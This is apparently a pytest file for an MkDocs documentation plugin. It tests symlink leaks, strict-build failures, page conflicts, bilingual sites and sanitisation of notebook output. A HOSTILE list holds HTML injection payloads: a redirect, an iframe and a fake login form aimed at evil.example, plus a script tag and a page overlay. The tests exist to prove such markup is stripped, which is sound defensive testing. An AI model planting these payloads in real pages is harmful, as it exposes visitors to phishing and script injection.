"""Sites that exist already: links in their folders, pages at our addresses, quiet strict builds, other plugins."""

from __future__ import annotations

import os
import sys

import builders
import forked
import nbformat
import pytest
from lxml import html as lxml_html

from lensdoc.records.writing import write_record

CONFIG = """site_name: Site
theme: {name: material, font: false}
markdown_extensions: [attr_list, lensdoc]
plugins: PLUGINS
"""
FIGURE = "/// explorable | run/two\n    attrs: {id: fig-two}\nA sequence.\n///\n"


def build(root, *options):
    command = [sys.executable, "-c", forked.MKDOCS, "build", "--strict", *options]
    environment = os.environ | {"NO_MKDOCS_2_WARNING": "1"}
    return forked.run(command, cwd=root, env=environment)


@pytest.fixture
def site(tmp_path):
    (tmp_path / "docs").mkdir()
    write_record(builders.sequence(), tmp_path / "docs" / "data" / "run" / "two.json")
    (tmp_path / "docs" / "index.md").write_text(f"# Home\n\n{FIGURE}\nSee @fig-two.\n")
    (tmp_path / "mkdocs.yml").write_text(CONFIG.replace("PLUGINS", "[search, lensdoc: {execute: never}]"))
    return tmp_path


def test_a_link_out_of_the_folder_of_pages_is_not_published(site):
    (site / "secret.txt").write_text("secret")
    (site / "docs" / "leak.txt").symlink_to(site / "secret.txt")
    (site / "docs" / "inside.json").symlink_to(site / "docs" / "data" / "run" / "two.json")
    done = build(site)
    assert done.returncode == 1
    assert "leak.txt: a link that leads out of the folder of pages is not published" in done.stderr
    assert "inside.json" not in done.stderr
    assert not (site / "site" / "leak.txt").exists()


@pytest.mark.sample(text=["See @fig-none."])
@pytest.mark.parametrize("text", ["See @fig-none.", "`{val} run/none.x`"])
def test_a_quiet_strict_build_fails_on_a_mistake(site, text):
    assert build(site, "--quiet").returncode == 0
    (site / "docs" / "index.md").write_text(f"# Home\n\n{text}\n")
    done = build(site, "--quiet")
    assert done.returncode == 1
    assert "index.md:3: " in done.stderr


def test_a_page_of_the_authors_is_not_replaced_by_that_of_a_run(site):
    plugins = "[search, mkdocs-jupyter: {execute: false}, lensdoc: {execute: never}]"
    (site / "mkdocs.yml").write_text(CONFIG.replace("PLUGINS", plugins))
    (site / "docs" / "analyses").mkdir()
    (site / "docs" / "analyses" / "run.md").write_text("# My own page\n\nMine.\n")
    executed = site / "analyses" / "executed" / "run.ipynb"
    executed.parent.mkdir(parents=True)
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# Of the run")])
    nbformat.write(notebook, executed)
    nbformat.write(notebook, site / "analyses" / "run.ipynb")
    (site / "analyses" / "runs.yml").write_text("runs:\n  run: {notebook: run.ipynb, records: [two]}\n")
    done = build(site)
    assert done.returncode == 1
    assert "analyses/executed/run.ipynb: docs/analyses/run.md has the address of the run's page" in done.stderr
    assert "Mine." in (site / "site" / "analyses" / "run" / "index.html").read_text()


def test_a_site_in_two_languages(site):
    pytest.importorskip("mkdocs_static_i18n")
    languages = "{locale: en, default: true, name: English, build: true}, {locale: fr, name: Français, build: true}"
    plugins = f"[search, i18n: {{docs_structure: suffix, languages: [{languages}]}}, lensdoc: {{execute: never}}]"
    (site / "mkdocs.yml").write_text(CONFIG.replace("PLUGINS", plugins))
    (site / "docs" / "index.fr.md").write_text(f"# Accueil\n\n{FIGURE}\nVoir @fig-two.\n")
    (site / "docs" / "other.md").write_text("# Other\n\nSee @fig-two.\n")
    (site / "docs" / "other.fr.md").write_text("# Autre\n\nVoir @fig-two.\n")
    done = build(site)
    assert (done.returncode, done.stderr) == (0, done.stderr)
    for page, name in (("other", "Home"), ("fr/other", "Accueil")):
        tree = lxml_html.parse(site / "site" / page / "index.html")
        (link,) = tree.xpath("//article//a[contains(@class, 'ld-ref')]")
        assert link.text == f"Figure 1 of “{name}”"
    assert (site / "site" / "data" / "run" / "two.csv").is_file()


PROSE = "# Of the author\n\n[home](index.md#home) ![a](pic.png) ![b](none.png) $x$\n\n"
HOSTILE = [
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=p><button>Log in</button></form>",
    "<p style='position:fixed;inset:0'>overlay</p>",
    "<script>alert(1)</script>",
    "<iframe src=https://evil.example/></iframe>",
    "</div></div></div><form><button>out</button></form>",
]


def test_notebooks_of_every_form_are_as_safe_as_those_of_runs(site):
    include = '["docs/notes/*.ipynb", "*.py", "*.md"]'  # a folder, without those of runs
    plugins = f"[search, mkdocs-jupyter: {{execute: false, include: {include}}}, lensdoc: {{execute: never}}]"
    (site / "mkdocs.yml").write_text(CONFIG.replace("PLUGINS", plugins))
    shown = [nbformat.v4.new_output("display_data", data={"text/html": html, "text/plain": "x"}) for html in HOSTILE]
    cells = [
        nbformat.v4.new_markdown_cell(f"{PROSE}{''.join(HOSTILE)}"),
        nbformat.v4.new_code_cell("1", outputs=shown, execution_count=1),
    ]
    notebook = nbformat.v4.new_notebook(cells=cells)
    docs = site / "docs"
    for place in (docs / "notes" / "own.ipynb", site / "analyses" / "executed" / "run.ipynb"):
        place.parent.mkdir(parents=True)
        nbformat.write(notebook, place)
    nbformat.write(notebook, site / "analyses" / "run.ipynb")
    (site / "analyses" / "runs.yml").write_text("runs:\n  run: {notebook: run.ipynb, records: [two]}\n")
    hostile = "".join(HOSTILE)
    (docs / "notes" / "script.py").write_text(
        f"# %% [markdown]\n# {PROSE.replace(chr(10), chr(10) + '# ')}{hostile}\n# %%\nx = 1\n"
    )
    header = "---\njupyter:\n  kernelspec: {language: python, name: python3, display_name: Python}\n---\n\n"
    (docs / "notes" / "text.md").write_text(f"{header}{PROSE}{hostile}\n\n```python\nx = 1\n```\n")
    (docs / "notes" / "pic.png").write_bytes(b"")
    (docs / "notes" / "index.md").write_text("# Home\n")
    done = build(site)
    warnings = [line for line in done.stderr.splitlines() if line.startswith("WARNING")]
    assert [line for line in warnings if "run run is stale" not in line] == []
    assert "docs/notes/own.ipynb: scripts in its outputs do not run on the page; cells 2" in done.stderr
    for name in ("notes/own", "notes/script", "notes/text", "analyses/run"):
        assert_is_safe(site / "site" / name / "index.html", has_files=name.startswith("notes"))
    assert not [path for path in (site / "site").rglob("*") if path.suffix in (".ipynb", ".py")]


def assert_is_safe(page, *, has_files):
    """The page has what the notebook shows, coloured code, and nothing that acts."""
    tree = lxml_html.parse(page)
    (article,) = tree.xpath("//article")
    assert not list(article.iter("form", "input", "iframe", "script", "meta", "button"))
    assert not article.xpath(".//*[@style]")
    assert "overlay" in article.text_content()
    assert [a.get("href") for a in article.iter("a") if a.text == "home"] == (["../#home"] if has_files else [])
    assert [img.get("src") for img in article.iter("img")] == (["../pic.png"] if has_files else [])
    assert [math.text for math in article.iter("lens-math")] == [r"\(x\)"]
    assert article.xpath(".//div[@class='highlight']/pre/code/span[@class]")
    assert tree.findtext(".//title") == "Of the author - Site"
